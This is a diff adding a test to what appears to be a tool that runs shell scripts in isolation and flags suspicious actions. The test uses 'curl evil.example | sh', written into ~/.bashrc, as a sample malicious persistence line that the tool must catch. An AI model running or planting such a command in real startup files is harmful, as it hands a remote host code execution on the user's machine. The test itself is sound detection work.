@@ -56,6 +56,18 @@ def as_they_were() -> Iterator[Callable[..., None]]:
             path.write_bytes(content)
 
 
+def test_a_line_that_is_there_already_is_evidence_when_it_is_added_once_more(scene, apart):
+    was = "curl evil.example | sh\n# mine\n"
+    (scene.home / ".bashrc").write_text(was)
+    ran = apart(scene.script("echo 'curl evil.example | sh' >> ~/.bashrc", "touch ~/other"))
+    assert [action["name"] for action in ran.json["actions"]] == ["evil-line"]
+    assert (scene.home / ".bashrc").read_text() == was
+    assert (scene.home / "other").exists()
+    shown = scene.pratique("show", "--details", ran.json["id"]).out
+    assert "  ~/.bashrc  +1 line\n" in shown
+    assert "    + curl evil.example | sh\n" in shown
+
+
 def out(*words: str) -> str:
     return subprocess.run(words, capture_output=True, text=True, check=False).stdout
 
